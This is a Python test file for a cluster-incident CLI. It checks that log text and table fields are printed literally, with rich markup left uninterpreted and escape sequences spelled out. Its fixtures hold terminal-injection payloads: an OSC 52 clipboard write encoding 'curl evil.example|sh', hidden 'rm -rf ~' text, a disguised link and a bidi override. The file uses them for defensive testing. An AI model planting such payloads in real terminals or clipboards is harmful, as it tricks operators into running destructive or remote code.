"""`goodput incident` and the CLI's tables show job-controlled text as text: rich markup in a log
line is printed as written (a `[/x]` once made the incident impossible to show), and escape
sequences (OSC 52 clipboard writes, OSC 8 links, CSI 8m hidden text, carriage returns, bidi
overrides) are spelled out instead of reaching the operator's terminal."""

from __future__ import annotations

import io
from datetime import UTC, datetime

from rich.console import Console

from goodput.cli.render import faults_table, incident_detail, incidents_table, nodes_table
from goodput.cli.terminal import visible
from goodput.diagnose.node_memory import NodeStanding
from goodput.models import (
    ActionKind,
    AnomalyKind,
    AnomalySource,
    Attribution,
    Category,
    Culprit,
    CulpritKind,
    IncidentKey,
    Mode,
    OperatorDecision,
    RecoveryAction,
    RecoveryPlan,
)
from goodput.models import Anomaly as AnomalyModel
from goodput.recover.incident import IncidentReport, TimelineEvent
from goodput.recover.lifecycle import IncidentState
from goodput.service.faults import NodeFault
from goodput.service.incidents import IncidentSummary

T0 = datetime(2026, 12, 1, 12, 0, tzinfo=UTC)
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"
HIDDEN = "\x1b[8mrm -rf ~\x1b[0m"
LINK = "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\"
HOSTILE = f"[/x] [link=https://evil.example]x[/link] {OSC52} {HIDDEN} {LINK} over\rwrite \u202eesrever \x9b31m"


def printed(*renderables: object) -> str:
    """What reaches the terminal: no colour system, so any ESC byte in it came from the job."""
    out = io.StringIO()
    console = Console(file=out, force_terminal=True, color_system=None, width=400, legacy_windows=False)
    for item in renderables:
        console.print(item)
    return out.getvalue()


def hostile_report() -> IncidentReport:
    anomaly = AnomalyModel(id="a1", source=AnomalySource.LOG, kind=AnomalyKind.CRASH, job_id="1001",
                           evidence=[HOSTILE, "ok line"], observed_at=T0, detected_at=T0)
    return IncidentReport(
        incident_id="incident-x", key=IncidentKey(cluster="lab", job_id="1001", job_attempt=0),
        state=IncidentState.AWAITING_APPROVAL, mode=Mode.APPROVE, anomaly_count=1, anomalies=(anomaly,),
        attribution=Attribution(category=Category.NCCL_TIMEOUT, culprits=(Culprit(kind=CulpritKind.APP, id=HOSTILE,
                                                                         confidence=0.5),),
                                explanation=f"the log said {HOSTILE}"),
        plan=RecoveryPlan(rationale=f"because {HOSTILE}", actions=(
            RecoveryAction(kind=ActionKind.REQUEUE, reason=HOSTILE),)),
        decision=OperatorDecision(who="olga", reason=HOSTILE), decision_verb="approve",
        timeline=(TimelineEvent(at=T0, state=IncidentState.DETECTED, detail=HOSTILE),))


def test_markup_in_a_log_line_is_printed_as_written() -> None:
    shown = printed(incident_detail(hostile_report()))
    assert "[/x]" in shown and "[link=https://evil.example]x[/link]" in shown


def test_escape_sequences_never_reach_the_terminal() -> None:
    shown = printed(incident_detail(hostile_report()))
    assert "\x1b" not in shown and "\x07" not in shown and "\r" not in shown and "\x9b" not in shown
    assert "\u202e" not in shown
    assert "\\x1b]52;c;" in shown and "\\x1b[8m" in shown and "\\u202e" in shown and "over\\x0dwrite" in shown


def test_the_tables_show_job_text_as_text() -> None:
    row = IncidentSummary(incident_id="incident-x", job_id="1001", cluster="lab", state="escalated",
                          culprit_nodes=(HOSTILE,), category="[/x]", started_at=T0)
    standing = NodeStanding(node=HOSTILE, score=2.0, jobs=("1001",), users=(HOSTILE,), last_at=T0, suspect=True)
    fault = NodeFault(node=HOSTILE, first_at=T0, last_at=T0, incidents=(row,), node_incident="incident-n",
                      isolation=HOSTILE)
    shown = printed(incidents_table([row]), nodes_table("lab", [standing]), faults_table([fault]))
    assert "\x1b" not in shown and "[/x]" in shown and "yes" in shown


def test_visible_keeps_ordinary_text_and_spells_out_the_rest() -> None:
    assert visible("node07: Xid 79 — GPU has fallen off the bus ✓") == "node07: Xid 79 — GPU has fallen off the bus ✓"
    assert visible("a\tb\x00c\x7f\u200bd") == "a\\x09b\\x00c\\x7f\\u200bd"
    assert visible("two\nlines") == "two\\x0alines" and visible("two\nlines", keep_newlines=True) == "two\nlines"


def test_goodput_nodes_shows_a_suspect_mark() -> None:
    marked = NodeStanding(node="node2", score=1.0, jobs=("1001",), users=("alice",), last_at=T0, suspect=False,
                          marked_by=("incident-a",))
    assert "excluded, not drained (1)" in printed(nodes_table("lab", [marked]))


def test_goodput_incident_shows_a_straggler_pending_exclusion() -> None:
    report = hostile_report().model_copy(update={
        "state": IncidentState.PENDING_EXCLUSION,
        "plan": RecoveryPlan(rationale="straggler: exclude node3 at the job's next restart",
                             pending_exclusion=("node3",),
                             actions=(RecoveryAction(kind=ActionKind.NOTIFY, reason="slow"),))})
    shown = printed(incident_detail(report))
    assert "pending exclusion" in shown and "node3 at the job's next restart" in shown
    assert "pending exclusion" not in printed(incident_detail(hostile_report()))
